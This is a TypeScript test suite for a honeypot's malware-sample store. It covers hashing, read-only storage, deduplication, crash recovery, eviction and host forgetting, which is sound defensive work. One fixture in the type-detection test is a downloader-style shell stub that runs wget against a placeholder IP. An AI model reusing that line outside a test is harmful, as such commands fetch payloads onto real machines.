import { createHash } from 'node:crypto';
import {
  existsSync,
  linkSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { type Connection, createIncident, type UntypedData } from '@ihandler/core';
import { createOrigins } from '@ihandler/core/origins';
import { describe, expect, it } from 'vitest';
import { pathIn } from './sample-folder.ts';
import { capture, sensorFolders, startStore, unique } from './testing/sensor.ts';

const sha256 = (content: string) => createHash('sha256').update(content).digest('hex');

function filesBelow(folder: string): readonly string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map(({ name }) => name);
}

/** The bytes of the record and of every file beside it. */
function recordBytes(dataDir: string): string {
  return readdirSync(dataDir)
    .filter((name) => name.startsWith('store.sqlite'))
    .map((name) => readFileSync(join(dataDir, name), 'latin1'))
    .join('\n');
}

describe('store', () => {
  it('stores a sample under its SHA-256, read-only in a private folder, and reports it with all its facts', async () => {
    const { binaries, dataDir } = sensorFolders();
    const { reports, write } = await startStore({ sampleFolders: [binaries] }, dataDir);
    const sample = capture(binaries, 'MZ evil');
    await write([unique(1, sample)]);
    const file = pathIn(join(dataDir, 'samples'), sha256('MZ evil'));
    expect(readFileSync(file, 'utf8')).toBe('MZ evil');
    expect(statSync(file).mode & 0o777).toBe(0o400);
    expect(statSync(join(dataDir, 'samples')).mode & 0o777).toBe(0o700);
    expect(reports).toEqual([
      {
        cause: 's:1',
        sha256: sha256('MZ evil'),
        sha1: createHash('sha1').update('MZ evil').digest('hex'),
        md5: sample.md5,
        size: 7,
        type: expect.any(String),
        file,
        url: 'http://198.51.100.7/x',
        connection: expect.objectContaining({ id: 'c1' }),
      },
    ]);
  });

  it('stores what any sensor captures, by the role of its incident, and checks its SHA-256', async () => {
    const { binaries, dataDir } = sensorFolders();
    const roles = { capture: { sha256: 'hash', file: 'at' } };
    const origins = createOrigins([{ origins: { 'acme.got': { level: 'info', description: '', roles } } }]);
    const { reports, write } = await startStore({ sampleFolders: [binaries] }, dataDir, { origins });
    const { file } = capture(binaries, 'MZ evil');
    const got = (ordinal: number, data: UntypedData) =>
      createIncident({
        id: `s:${ordinal}`,
        origin: 'acme.got',
        timestamp: 0,
        sensor: 'pot',
        data,
        local: true,
      });
    await write([got(1, { hash: sha256('MZ evil'), at: file }), got(2, { hash: sha256('no file') })]);
    expect(reports).toMatchObject([{ cause: 's:1', sha256: sha256('MZ evil'), url: '' }]);
    await expect(write([got(3, { hash: sha256('other'), at: file })])).rejects.toThrow(/SHA-256/);
  });

  it('stores and reports a sample once that is captured several times', async () => {
    const { binaries, dataDir } = sensorFolders();
    const { reports, write, handler } = await startStore({ sampleFolders: [binaries] }, dataDir);
    const sample = capture(binaries, 'again');
    await write([unique(1, sample), unique(2, sample, { origin: 'dionaea.download.complete.again' })]);
    await write([unique(3, sample)]);
    expect(reports).toHaveLength(1);
    expect(handler.counters?.()).toMatchObject({ stored: 1, known: 2, samples: 1, bytes: 5 });
    expect(filesBelow(join(dataDir, 'samples'))).toEqual([sha256('again')]);
  });

  it('stores the sample of a .hash, and reads or rejects it once when a .unique or .again follows', async () => {
    const { binaries, dataDir } = sensorFolders();
    const { reports, write, handler } = await startStore({ sampleFolders: [binaries] }, dataDir);
    const hash = { origin: 'dionaea.download.complete.hash' };
    const sample = capture(binaries, 'announced');
    await write([unique(1, sample, hash), unique(2, sample)]);
    await write([unique(3, sample, hash), unique(4, sample, { origin: 'dionaea.download.complete.again' })]);
    expect(reports).toMatchObject([{ md5: sample.md5, cause: 's:1' }]);
    expect(handler.counters?.()).toMatchObject({ stored: 1, known: 1 });
    const gone = { file: join(binaries, 'gone'), md5: 'none' };
    await expect(write([unique(5, gone, hash)])).rejects.toThrow('does not exist');
    await write([unique(6, gone)]);
    await expect(write([unique(7, gone)])).rejects.toThrow('does not exist');
    const late = { file: join(binaries, 'late'), md5: 'none' };
    await expect(write([unique(8, late, hash)])).rejects.toThrow('does not exist');
    writeFileSync(late.file, 'late');
    await write([unique(9, late)]);
    expect(reports).toMatchObject([{}, { cause: 's:9' }]);
  });

  it('waits for a file that a .hash announces before the file has its name', async () => {
    const { binaries, dataDir } = sensorFolders();
    const { reports, write } = await startStore({ sampleFolders: [binaries] }, dataDir, { now: () => 0 });
    const file = join(binaries, 'soon');
    setTimeout(() => writeFileSync(file, 'soon'), 150);
    await write([unique(1, { file, md5: 'none' }, { origin: 'dionaea.download.complete.hash' })]);
    expect(reports).toHaveLength(1);
  });

  it('stores a temporary file that the source saved, and ignores one that it cannot read', async () => {
    const { root, binaries, dataDir } = sensorFolders();
    const { reports, write } = await startStore({ sampleFolders: [binaries] }, dataDir);
    const aside = capture(binaries, 'put aside');
    writeFileSync(join(root, 'elsewhere'), 'x');
    const complete = (ordinal: number, path: string) =>
      createIncident({
        id: `s:${ordinal}`,
        origin: 'dionaea.download.complete',
        timestamp: 0,
        sensor: 'pot',
        data: { path, url: '' },
        local: true,
      });
    const gone = [join(binaries, 'gone'), join(root, 'elsewhere'), 'binaries/x.tmp'];
    await write([...gone.map((path, at) => complete(at + 1, path)), complete(9, aside.file)]);
    expect(reports).toMatchObject([{ md5: aside.md5, cause: 's:9' }]);
  });

  it('repeats the same report after a crash, and reports nothing for an incident without a new sample', async () => {
    const { binaries, dataDir } = sensorFolders();
    const sample = capture(binaries, 'crash');
    const first = await startStore({ sampleFolders: [binaries] }, dataDir);
    await first.write([unique(1, sample), unique(2, sample)]);
    await first.handler.close?.();
    rmSync(sample.file);
    const second = await startStore({ sampleFolders: [binaries] }, dataDir);
    expect(await second.handler.checkpoint?.()).toEqual({ s: 2 });
    await second.write([unique(1, sample), unique(2, sample)], 'again');
    expect(second.reports).toEqual(first.reports);
  });

  it('treats a file that a crash left without its row as new', async () => {
    const { binaries, dataDir } = sensorFolders();
    const sample = capture(binaries, 'half done');
    const file = pathIn(join(dataDir, 'samples'), sha256('half done'));
    mkdirSync(join(file, '..'), { recursive: true });
    writeFileSync(file, 'half done', { mode: 0o400 });
    const { reports, write } = await startStore({ sampleFolders: [binaries] }, dataDir);
    await write([unique(1, sample)]);
    expect(reports).toHaveLength(1);
  });

  it('replaces a stored file that was cut', async () => {
    const { binaries, dataDir } = sensorFolders();
    const { write } = await startStore({ sampleFolders: [binaries] }, dataDir);
    const sample = capture(binaries, 'torn');
    await write([unique(1, sample)]);
    const file = pathIn(join(dataDir, 'samples'), sha256('torn'));
    rmSync(file);
    writeFileSync(file, 'to');
    await write([unique(2, sample)]);
    expect(readFileSync(file, 'utf8')).toBe('torn');
  });

  it('removes drafts that a crash left', async () => {
    const { binaries, dataDir } = sensorFolders();
    mkdirSync(join(dataDir, 'samples', '.incoming'), { recursive: true });
    writeFileSync(join(dataDir, 'samples', '.incoming', 'left'), 'x');
    await startStore({ sampleFolders: [binaries] }, dataDir);
    expect(readdirSync(join(dataDir, 'samples', '.incoming'))).toEqual([]);
  });

  it('opens no file for an incident of another machine', async () => {
    const { binaries, dataDir } = sensorFolders();
    const { reports, write, handler } = await startStore({ sampleFolders: [binaries] }, dataDir);
    const sample = capture(binaries, 'remote');
    await write([unique(1, sample, { local: false })]);
    expect(reports).toEqual([]);
    expect(handler.counters?.()).toMatchObject({ remote: 1, stored: 0 });
    expect(await handler.checkpoint?.()).toEqual({ s: 1 });
  });

  it('deletes the oldest samples at maxSize, and stores a deleted one again when it is captured again', async () => {
    const { binaries, dataDir } = sensorFolders();
    let now = 0;
    const clock = { now: () => (now += 1) };
    const { reports, write, handler } = await startStore(
      { sampleFolders: [binaries], maxSize: '1kB' },
      dataDir,
      clock,
    );
    const [first, second, third] = ['a', 'b', 'c'].map((letter) => capture(binaries, letter.repeat(400)));
    if (!first || !second || !third) throw new Error('three samples');
    await write([unique(1, first)]);
    await write([unique(2, second)]);
    await write([unique(3, third)]);
    expect(handler.counters?.()).toMatchObject({ evicted: 1, samples: 2, bytes: 800 });
    const path = (letter: string) => pathIn(join(dataDir, 'samples'), sha256(letter.repeat(400)));
    expect(['a', 'b', 'c'].map((letter) => existsSync(path(letter)))).toEqual([false, true, true]);
    await write([unique(4, first)]);
    expect(existsSync(path('a'))).toBe(true);
    expect(reports).toHaveLength(3);
  });

  it('respects maxSize within a batch', async () => {
    const { binaries, dataDir } = sensorFolders();
    let now = 0;
    const { reports, write, handler } = await startStore(
      { sampleFolders: [binaries], maxSize: '1kB' },
      dataDir,
      {
        now: () => (now += 1),
      },
    );
    const letters = ['a', 'b', 'c', 'd', 'e'];
    await write(letters.map((letter, at) => unique(at + 1, capture(binaries, letter.repeat(400)))));
    expect(handler.counters?.()).toMatchObject({ stored: 5, evicted: 3, samples: 2, bytes: 800 });
    expect(filesBelow(join(dataDir, 'samples')).toSorted()).toEqual(
      ['d', 'e'].map((letter) => sha256(letter.repeat(400))).toSorted(),
    );
    expect(reports).toHaveLength(5);
  });

  it('deletes nothing for a sample that is already stored', async () => {
    const { binaries, dataDir } = sensorFolders();
    const { write, handler } = await startStore({ sampleFolders: [binaries], maxSize: '1kB' }, dataDir);
    const [first, second] = ['a', 'b'].map((letter) => capture(binaries, letter.repeat(500)));
    if (!first || !second) throw new Error('two samples');
    await write([unique(1, first), unique(2, second)]);
    await write([unique(3, first), unique(4, second), unique(5, first)]);
    expect(handler.counters?.()).toMatchObject({ stored: 2, known: 3, evicted: 0, samples: 2, bytes: 1000 });
  });

  it('reports what an earlier attempt of the same batch stored, and counts it once', async () => {
    const { binaries, dataDir } = sensorFolders();
    const { reports, write, handler } = await startStore({ sampleFolders: [binaries] }, dataDir);
    const [first, second] = ['one', 'two'].map((content) => capture(binaries, content));
    if (!first || !second) throw new Error('two samples');
    const batch = [unique(1, first), unique(2, { ...second, file: join(binaries, 'late') })];
    await expect(write(batch)).rejects.toThrow('does not exist');
    expect(await handler.checkpoint?.()).toEqual({});
    // The dispatcher discards the reports of a failed batch.
    reports.length = 0;
    rmSync(first.file);
    linkSync(second.file, join(binaries, 'late'));
    await write(batch);
    expect(reports.map(({ md5, cause }) => [md5, cause])).toEqual([
      [first.md5, 's:1'],
      [second.md5, 's:2'],
    ]);
    expect(handler.counters?.()).toMatchObject({ stored: 2, known: 0 });
  });

  it('detects a portable executable, an ELF file, text, other bytes and an empty file', async () => {
    const { binaries, dataDir } = sensorFolders();
    const { reports, write } = await startStore({ sampleFolders: [binaries] }, dataDir);
    const contents = [
      Buffer.from('4d5a90000300000004000000ffff0000', 'hex'),
      Buffer.from('7f454c4602010100000000000000000002003e00', 'hex'),
      Buffer.from('#!/bin/sh\nwget http://192.0.2.1/ö\n'),
      Buffer.from([0, 1, 2, 255, 254]),
      Buffer.alloc(0),
    ];
    await write(contents.map((content, at) => unique(at + 1, capture(binaries, content))));
    expect(reports.map(({ type }) => type)).toEqual([
      'application/x-msdownload',
      'application/x-elf',
      'text/plain',
      'application/octet-stream',
      'inode/x-empty',
    ]);
  });

  it('forgets the host of a sample and keeps the sample', async () => {
    const { binaries, dataDir } = sensorFolders();
    const { write, handler } = await startStore({ sampleFolders: [binaries] }, dataDir);
    await write([unique(1, capture(binaries, 'whose'))]);
    expect(recordBytes(dataDir)).toContain('198.51.100.7');
    expect(await handler.forget?.((host) => host === '198.51.100.7')).toMatch(/of 1 sample;/);
    expect(recordBytes(dataDir)).not.toContain('198.51.100.7');
    expect(filesBelow(join(dataDir, 'samples'))).toHaveLength(1);
  });

  it('forgets a host that only the host name of a connection or a URL names', async () => {
    const { binaries, dataDir } = sensorFolders();
    const { write, handler } = await startStore({ sampleFolders: [binaries] }, dataDir);
    const byName = unique(1, capture(binaries, 'by name'));
    const connection = byName.data['connection'] as Connection;
    const remote = { ...connection.remote, host: '', hostname: '203.0.113.9' };
    const byUrl = unique(2, capture(binaries, 'by url'));
    await write([
      createIncident({ ...byName, data: { ...byName.data, connection: { ...connection, remote } } }),
      createIncident({ ...byUrl, data: { ...byUrl.data, url: 'http://203.0.113.9/x' } }),
      unique(3, capture(binaries, 'of another')),
    ]);
    expect(await handler.forget?.((host) => host === '203.0.113.9')).toMatch(/of 2 samples;/);
    expect(recordBytes(dataDir)).not.toContain('203.0.113.9');
    expect(recordBytes(dataDir)).toContain('198.51.100.7');
  });
});
